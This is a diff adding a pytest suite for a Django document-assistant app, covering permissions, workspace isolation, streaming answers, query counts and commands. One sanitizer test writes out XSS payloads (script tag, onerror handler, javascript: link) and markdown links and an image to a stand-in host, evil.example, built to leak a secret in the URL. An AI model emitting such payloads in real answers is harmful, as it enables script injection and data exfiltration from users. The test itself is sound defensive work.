@@ -1,0 +1,209 @@
+import pytest
+from django.core.management import call_command
+from django.core.management.base import CommandError
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+
+from assistants.models import Assistant, Conversation, Message
+from assistants.rendering import render_answer
+from assistants.tests.conftest import read_events
+
+QUESTION = "How many vacation days do I get?"
+
+
+def test_api_crud_by_role(api_client_for, member, viewer, workspace, handbook):
+    response = api_client_for(viewer).post("/api/assistants/", {"workspace": "acme", "name": "X"}, format="json")
+    assert response.status_code == 403
+    client = api_client_for(member)
+    response = client.post(
+        "/api/assistants/",
+        {"workspace": "acme", "name": "Policies", "all_documents": False, "documents": [handbook.pk]},
+        format="json",
+    )
+    assert response.status_code == 201, response.content
+    body = response.json()
+    assert body["documents"] == [handbook.pk] and body["version"] == 1
+    response = client.patch(f"/api/assistants/{body['id']}/", {"instructions": "Be brief."}, format="json")
+    assert response.json()["version"] == 2
+    assert api_client_for(viewer).get(f"/api/assistants/{body['id']}/").status_code == 200
+    assert api_client_for(viewer).delete(f"/api/assistants/{body['id']}/").status_code == 403
+
+
+def test_api_refuses_documents_of_another_workspace_with_404(
+    api_client_for, member, outsider, other_workspace, workspace, add_document
+):
+    secret = add_document(other_workspace, "secret.md", "# Secret\n\nGlobex plans.\n", outsider)
+    response = api_client_for(member).post(
+        "/api/assistants/",
+        {"workspace": "acme", "name": "Spy", "all_documents": False, "documents": [secret.pk]},
+        format="json",
+    )
+    assert response.status_code == 404
+    assert not Assistant.objects.filter(name="Spy").exists()
+
+
+@pytest.mark.parametrize("bad", [{"temperature": 5}, {"name": ""}, {"all_documents": "true"}, {"model": "nope"}])
+def test_api_field_errors(api_client_for, member, workspace, bad):
+    response = api_client_for(member).post("/api/assistants/", {"workspace": "acme", "name": "A", **bad}, format="json")
+    assert response.status_code == 400
+    assert set(response.json()) & {"temperature", "name", "all_documents", "model"}
+
+
+def test_api_ask_json_and_stream(api_client_for, member, assistant):
+    client = api_client_for(member)
+    conversation = client.post("/api/conversations/", {"assistant": assistant.pk}, format="json").json()
+    response = client.post(f"/api/conversations/{conversation['id']}/messages/", {"content": QUESTION}, format="json")
+    assert response.status_code == 201
+    answer = response.json()
+    assert "27 vacation days" in answer["content"]
+    assert answer["citations"][0]["title"].lower().startswith("handbook")
+    response = client.post(
+        f"/api/conversations/{conversation['id']}/messages/", {"content": QUESTION, "stream": True}, format="json"
+    )
+    events = read_events(response)
+    assert events[0][0] == "meta" and events[0][1]["cache_hit"] is True
+    assert events[-1][0] == "done" and "27 vacation days" in events[-1][1]["message"]["content"]
+    listed = client.get(f"/api/conversations/{conversation['id']}/messages/").json()
+    assert listed["count"] == 4
+    fb = client.post(f"/api/messages/{answer['id']}/feedback/", {"feedback": "up", "comment": "great"}, format="json")
+    assert fb.json()["feedback"] == "up"
+    bad = client.post(f"/api/conversations/{conversation['id']}/messages/", {"content": ""}, format="json")
+    assert bad.status_code == 400 and "content" in bad.json()
+
+
+def test_conversations_are_private(api_client_for, client_for, member, admin_user, assistant, ask_page):
+    events = ask_page(client_for(member), assistant, QUESTION)
+    cid = events[0][1]["id"]
+    assert client_for(admin_user).get(f"/assistants/acme/{assistant.pk}/c/{cid}/").status_code == 404
+    assert api_client_for(admin_user).get(f"/api/conversations/{cid}/").status_code == 404
+    usage = client_for(admin_user).get("/assistants/acme/usage/")
+    assert usage.status_code == 200
+    assert b"Helpdesk" in usage.content
+    assert b"vacation" not in usage.content
+
+
+def test_chat_page_queries_do_not_grow_with_the_conversation(client_for, member, assistant, ask_page):
+    client = client_for(member)
+    events = ask_page(client, assistant, QUESTION)
+    cid = events[0][1]["id"]
+    url = f"/assistants/acme/{assistant.pk}/c/{cid}/"
+
+    def count():
+        with CaptureQueriesContext(connection) as ctx:
+            assert client.get(url).status_code == 200
+        return len(ctx.captured_queries)
+
+    few = count()
+    conversation = Conversation.objects.get(pk=cid)
+    answer = Message.objects.filter(conversation=conversation, role="assistant").first()
+    for _ in range(25):
+        Message.objects.create(conversation=conversation, role="user", content="again")
+        Message.objects.create(conversation=conversation, role="assistant", content="yes", citations=answer.citations)
+        Conversation.objects.create(assistant=assistant, user=member, title="other")
+    assert count() == few
+
+
+def test_chat_turn_queries_do_not_grow_with_the_conversation(client_for, member, assistant, ask_page):
+    client = client_for(member)
+    cid = ask_page(client, assistant, QUESTION)[0][1]["id"]
+
+    def turn_queries(question):
+        with CaptureQueriesContext(connection) as ctx:
+            ask_page(client, assistant, question, conversation=cid)
+        return len(ctx.captured_queries)
+
+    first = turn_queries("What about expenses for meals?")
+    conversation = Conversation.objects.get(pk=cid)
+    for i in range(30):
+        Message.objects.create(conversation=conversation, role="user", content=f"q{i}")
+        Message.objects.create(conversation=conversation, role="assistant", content=f"a{i}")
+    assert turn_queries("And the VPN gateway?") == first
+
+
+def test_answers_are_sanitized():
+    html = str(
+        render_answer(
+            "Hi <script>alert(1)</script> <img src=x onerror=alert(1)> ![leak](https://evil.example/?q=secret) "
+            "[ok](/documents/acme/) [bad](https://evil.example/steal) [js](javascript:alert(1)) **bold**"
+        )
+    )
+    assert "<script" not in html and "onerror" not in html and "<img" not in html
+    assert 'href="https://evil.example' not in html
+    assert 'href="/documents/acme/"' in html
+    assert "javascript:" not in html
+    assert "<strong>bold</strong>" in html
+
+
+def test_allowed_link_hosts(settings):
+    settings.ANSWER_LINK_HOSTS = ["intranet.example"]
+    html = str(render_answer("[wiki](https://intranet.example/page) [other](https://other.example/)"))
+    assert 'href="https://intranet.example/page"' in html
+    assert 'href="https://other.example/"' not in html
+
+
+def test_pages_render(client_for, member, viewer, assistant):
+    client = client_for(member)
+    assert b"Helpdesk" in client.get("/assistants/").content
+    assert b"Helpdesk" in client.get("/assistants/acme/").content
+    page = client.get(f"/assistants/acme/{assistant.pk}/")
+    assert b"Ask Helpdesk" in page.content
+    edit = client.get(f"/assistants/acme/{assistant.pk}/edit/")
+    assert b"Try it" in edit.content
+    assert client_for(viewer).get(f"/assistants/acme/{assistant.pk}/edit/").status_code == 403
+
+
+def test_try_it_uses_unsaved_settings(client_for, member, assistant):
+    response = client_for(member).post(
+        f"/assistants/acme/{assistant.pk}/try/",
+        {
+            "name": "Helpdesk",
+            "instructions": "Draft instructions",
+            "model_name": "",
+            "temperature": "0",
+            "max_tokens": "300",
+            "passages": "2",
+            "all_documents": "on",
+            "try_question": QUESTION,
+        },
+    )
+    assert response.status_code == 200
+    assert b"27 vacation days" in response.content
+    assistant.refresh_from_db()
+    assert assistant.instructions == "Answer briefly." and assistant.version == 1
+    assert not Conversation.objects.exists()
+
+
+def test_form_refuses_another_workspaces_document(
+    client_for, member, outsider, other_workspace, assistant, add_document
+):
+    secret = add_document(other_workspace, "secret.md", "# Secret\n\nGlobex plans.\n", outsider)
+    response = client_for(member).post(
+        f"/assistants/acme/{assistant.pk}/edit/",
+        {
+            "name": "Helpdesk",
+            "model_name": "",
+            "temperature": "0",
+            "max_tokens": "300",
+            "passages": "2",
+            "documents": [secret.pk],
+        },
+    )
+    assert response.status_code == 400
+    assert b"Select a valid choice" in response.content
+    assert not assistant.documents.exists()
+
+
+def test_commands(capsys, workspace, owner, handbook):
+    call_command("create_assistant", "acme", "Policy bot", "--instructions", "Quote policies.")
+    call_command("ask", "acme", "Policy bot", QUESTION)
+    out = capsys.readouterr().out
+    assert "27 vacation days" in out
+    assert "Sources:" in out and "handbook" in out.lower()
+    call_command("ask", "acme", "Policy bot", QUESTION)
+    assert "cache hit" in capsys.readouterr().out
+    with pytest.raises(CommandError, match="No assistant"):
+        call_command("ask", "acme", "Nobody", QUESTION)
+    with pytest.raises(CommandError, match="empty"):
+        call_command("ask", "acme", "Policy bot", "  ")
+    with pytest.raises(CommandError, match="Unknown model"):
+        call_command("create_assistant", "acme", "Other", "--model", "nope")
